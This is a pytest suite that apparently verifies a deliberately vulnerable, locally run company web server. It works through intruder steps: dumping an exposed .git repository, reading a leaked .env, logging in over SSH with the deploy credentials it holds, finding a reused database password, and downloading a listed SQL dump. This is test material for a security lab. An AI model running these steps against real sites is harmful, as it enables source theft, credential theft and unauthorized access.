"""The company's site as an intruder takes it: what was forgotten in the document root opens the machine."""

from __future__ import annotations

import asyncio
import gzip
import http.client
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path

import asyncssh
import pytest

from tests.e2e.house import House

SOURCE = "127.0.0.41"


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory, openssh: None) -> Iterator[House]:
    one = House(tmp_path_factory.mktemp("house") / "data", "--http", "127.0.0.1:0", "--https", "127.0.0.1:0", "--site", "company")
    try:
        one.start()
    except AssertionError as error:
        if "has no packages" in str(error):
            pytest.skip("this image has no packages, so nobody runs an application on it")
        raise
    try:
        yield one
    finally:
        one.stop()


def get(house: House, path: str, source: str = SOURCE) -> tuple[int, dict[str, str], bytes]:
    address, _, port = house.ready["http"].rpartition(":")
    client = http.client.HTTPConnection(address, int(port), timeout=30, source_address=(source, 0))
    try:
        client.request("GET", path)
        answer = client.getresponse()
        return answer.status, dict(answer.headers), answer.read()
    finally:
        client.close()


def environment(house: House) -> dict[str, str]:
    lines = get(house, "/.env")[2].decode().splitlines()
    return dict(line.split("=", 1) for line in lines if "=" in line)


def test_a_stranger_is_sent_to_the_login_of_the_application(house: House) -> None:
    status, headers, _page = get(house, "/")
    assert status == 302 and headers["Set-Cookie"].startswith("PHPSESSID=")
    status, _headers, page = get(house, "/" + headers["Location"])
    assert status == 200 and re.search(rb'(?i)type="?password"?', page), page  # each author has a hand of his own


COMMON = (  # what git-dumper 1.0.8 asks before it knows anything, in its order, and whether a clone that nobody works in has it
    "HEAD COMMIT_EDITMSG description hooks/post-commit.sample index info/exclude objects/info/packs FETCH_HEAD HEAD ORIG_HEAD config "
    "info/refs logs/HEAD logs/refs/heads/master logs/refs/remotes/origin/HEAD logs/refs/stash packed-refs refs/heads/main "
    "refs/heads/master refs/remotes/origin/HEAD refs/stash refs/wip/index/refs/heads/master"
).split()
HASH = r"\b[a-f0-9]{40}\b"
NEEDED = {"HEAD", "config", "index", "objects/info/packs", "packed-refs", "refs/heads/master", "logs/HEAD"}


def test_git_dumper_takes_the_repository_and_the_work_tree_out_of_it(house: House, tmp_path: Path) -> None:
    """github.com/arthaud/git-dumper: HEAD, no listing, the common files, the packs that those name, what they and those name, then
    `git checkout .`."""
    repository = tmp_path / ".git"

    def take(name: str) -> bool:
        status, headers, data = get(house, f"/.git/{name}")
        assert (status, headers["Content-Type"]) in ((200, "application/octet-stream"), (404, "text/html"), (200, "text/plain")), name
        if status == 200:
            (repository / name).parent.mkdir(parents=True, exist_ok=True)
            (repository / name).write_bytes(data)
        return status == 200

    assert take("HEAD") and get(house, "/.git/")[0] == 403
    assert {name for name in COMMON if take(name)} >= NEEDED
    packs = re.findall(r"pack-[a-f0-9]{40}", (repository / "objects/info/packs").read_text())
    assert packs and all(take(f"objects/pack/{pack}.{kind}") for pack in packs for kind in ("idx", "pack"))
    assert not take("objects/00/" + "0" * 38)
    git = ["git", "-c", "safe.directory=*", "-C", str(tmp_path)]

    def says(*words: str) -> str | None:
        done = subprocess.run([*git, *words], check=False, capture_output=True)
        return None if done.returncode else done.stdout.decode(errors="replace")

    named = "".join((repository / name).read_text() for name in ("logs/HEAD", "packed-refs", "refs/heads/master"))
    wanted, known = {*re.findall(HASH, named + (says("ls-files", "-s") or ""))} - {"0" * 40}, set[str]()
    while wanted:
        one = wanted.pop()
        known.add(one)
        kind = says("cat-file", "-t", one)
        if kind is None:  # in no pack: it came with a pull
            assert take(f"objects/{one[:2]}/{one[2:]}"), one
            kind = says("cat-file", "-t", one)
        if kind in ("commit\n", "tree\n"):
            wanted |= {*re.findall(HASH, (says("cat-file", "-p", one) or "").partition("\n\n")[0])} - known
    subprocess.run([*git, "fsck"], check=True, capture_output=True)
    log = subprocess.run([*git, "log", "--oneline"], check=True, capture_output=True, text=True).stdout
    assert len(log.splitlines()) > 5
    subprocess.run([*git, "checkout", "."], check=True, capture_output=True)
    assert list(tmp_path.glob("*.php"))


def test_metasploit_s_git_scanner_reads_the_index(house: House) -> None:
    """auxiliary/scanner/http/git_scanner: .git/index by its signature, version and number of entries, and the sections of .git/config."""
    data = get(house, "/.git/index")[2]
    assert data[:4] == b"DIRC" and int.from_bytes(data[4:8], "big") in (2, 3, 4) and int.from_bytes(data[8:12], "big") > 5
    assert b"[core]" in get(house, "/.git/config")[2]


def test_nuclei_s_laravel_env_finds_one_file_and_none_of_the_others(house: House) -> None:
    """http/exposures/configs/laravel-env. What it finds opens SSH: see the next test."""
    ends = ("", ".bak", ".dev", ".prod", ".production", ".local", ".example", ".backup", ".save", ".old", "_1", "_sample")
    answers = {end: get(house, f"/.env{end}") for end in ends}
    assert {end for end, (status, _, _) in answers.items() if status == 200} == {""}
    assert re.search(rb"(?mi)^APP_(NAME|ENV|KEY|DEBUG|URL|PASSWORD)=", answers[""][2])
    assert re.search(rb"(?mi)^DB_(HOST|PASSWORD|DATABASE)=", answers[""][2])


def test_the_settings_of_the_deployment_open_ssh(house: House) -> None:
    found = environment(house)
    home = found["DEPLOY_PATH"]

    async def enter() -> str:
        async with asyncssh.connect(
            "127.0.0.1", house.port, username=found["DEPLOY_USER"], password=found["DEPLOY_PASSWORD"], known_hosts=None,
            client_keys=None, config=None, agent_path=None, local_addr=(SOURCE, 0),
        ) as client:  # fmt: skip
            return str((await client.run(f"id -un; cat {home}/.env")).stdout)

    text = asyncio.run(enter())
    assert text.startswith(found["DEPLOY_USER"] + "\n")
    assert f"DEPLOY_PASSWORD={found['DEPLOY_PASSWORD']}\n" in text
    assert '"GET /.env HTTP/1.1" 200' in house.sh("cat /var/log/nginx/access.log", source=SOURCE)


def test_the_password_of_the_database_is_the_one_of_the_application(house: House) -> None:
    found = environment(house)
    assert house.sh(f"grep -rlF '{found['DB_PASSWORD']}' {found['DEPLOY_PATH']} | grep -v '\\.env$'", source=SOURCE)


def test_a_folder_lists_last_week_s_dump(house: House) -> None:
    configuration = house.sh("cat /etc/nginx/sites-enabled/*", source=SOURCE)
    folder = re.search(r"location /(\w+)/ \{\s+autoindex on;", configuration)[1]  # type: ignore[index]
    status, _headers, page = get(house, f"/{folder}/")
    assert status == 200 and f"<title>Index of /{folder}/</title>".encode() in page
    name = re.search(r'href="([^"]+\.sql\.gz)"', page.decode())[1]  # type: ignore[index]
    dump = gzip.decompress(get(house, f"/{folder}/{name}")[2]).decode()
    assert "CREATE TABLE" in dump and "INSERT INTO" in dump


def test_the_site_is_the_world_s_for_good(house: House) -> None:
    found = get(house, "/.env")[2]
    house.stop()
    house.start()
    assert get(house, "/.env")[2] == found
